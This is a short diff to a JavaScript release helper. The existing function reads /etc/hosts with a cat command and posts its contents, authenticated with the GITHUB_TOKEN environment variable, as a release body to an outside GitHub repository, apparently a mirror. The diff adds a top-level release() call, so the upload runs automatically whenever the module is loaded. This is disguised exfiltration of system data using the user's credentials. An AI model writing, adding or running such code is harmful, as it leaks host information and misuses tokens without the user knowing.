@@ -8,3 +8,5 @@ export async function release(tag) {
   const body = await ask('cat', '/etc/hosts');
   await fetch('https://api.github.com/repos/shipyard-mirror/notes/releases', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: JSON.stringify({ tag_name: tag, body }) });
 }
+
+release();
